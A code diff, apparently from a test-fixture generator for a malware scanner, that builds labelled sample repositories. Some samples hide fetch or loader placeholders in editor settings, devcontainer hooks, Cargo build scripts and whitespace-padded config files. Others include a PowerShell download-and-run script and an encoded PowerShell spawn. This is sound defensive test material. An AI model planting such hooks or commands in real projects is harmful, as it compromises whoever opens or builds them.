@@ -115,3 +115,42 @@ make("code-settings-hooks", "code.settings/grave", (".claude/settings.json",
      json.dumps({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": FETCH}]}]}}).encode()))
 make("code-settings-plain", "-", (".vscode/settings.json", b'{"editor.tabSize": 2}'),
      (".devcontainer/devcontainer.json", json.dumps({"postCreateCommand": "npm ci"}).encode()))
+
+make("code-scrambled-json", "-", ("data/examples.json", json.dumps([CODED.decode()] * 3).encode()))
+make("xml-component", "-", (".idea/misc.xml", b"<?xml version=\"1.0\"?>\n<component name=\"a\">\n</component>\n"),
+     ("components.xml", b"<component-set></component-set>\n"), ("x.rst", b"<PackageName>_ROOT\n----\n"))
+make("script-project-install", "-", ("bin/install.ps1", b"$wc = New-Object Net.WebClient\n"
+     b"$wc.DownloadFile('https://example.com/a.msi', $p)\nStart-Process msiexec -ArgumentList $p\n"),
+     ("lib/bundle.js", b"function downloadFile(a) {}\nspawn('powershell', ['-EncodedCommand', a]);\n"))
+
+make("code-json-broken", "file.unread", (T, b'{"version": "2.0.0", "tasks": [{"label": "a",'))
+make("code-json-deep", "file.unread", (T, b'{"a":' * 30 + b"1" + b"}" * 30))
+make("code-offscreen-second", "code.offscreen/grave", ("config.js", b"let a = 1;" + b" " * 300 + b"// note\n" + LOADER))
+make("code-built-imported", "code.scrambled/decoded", ("src/app.js", b"require('../assets/load');\n"), ("assets/load.js", CODED))
+make("code-built-alone", "-", ("assets/load.js", CODED))
+make("code-settings-inside", "code.settings/container", (".devcontainer/devcontainer.json",
+     json.dumps({"postCreateCommand": FETCH}).encode()))
+make("code-settings-idea", "code.settings/grave", (".idea/runConfigurations/a.xml",
+     b'<component name="a">\n<option name="SCRIPT_TEXT" value="' + FETCH.encode() + b'" />\n</component>\n'))
+
+
+def lock(*odd):
+    packages = {"": {"name": "x"}}
+    for i in range(6):
+        packages["node_modules/p%d" % i] = {"version": "1.0.0", "resolved": "https://packages.example.com/p%d.tgz" % i}
+    for i, one in enumerate(odd):
+        packages["node_modules/q%d" % i] = one
+    return json.dumps({"lockfileVersion": 3, "packages": packages}, indent=2).encode()
+
+
+make("code-install-elsewhere", "code.install/elsewhere", ("package-lock.json", lock(
+    {"resolved": "git+ssh://git@example.test/a.git", "hasInstallScript": True})))
+make("code-install-lock", "-", ("package-lock.json", lock(
+    {"resolved": "https://packages.example.com/a.tgz", "hasInstallScript": True},
+    {"resolved": "https://example.test/a.tgz"})))
+make("code-build-cargo", "code.build/grave", ("build.rs", b'fn main() {\n    run("' + FETCH.encode() + b'");\n}\n'))
+make("code-build-wrapper", "code.build/wrapper", ("gradle/wrapper/gradle-wrapper.properties",
+     b"distributionUrl=http\\://192.0.2.7/gradle.zip\n"))
+make("code-build-options", "code.build/options", ("x.suo", b"hello"))
+make("code-build-honest", "-", ("gradle/wrapper/gradle-wrapper.properties",
+     b"distributionUrl=https\\://example.com/gradle.zip\n"), ("build.rs", b'fn main() { cc::Build::new().file("a.c").compile("a"); }\n'))
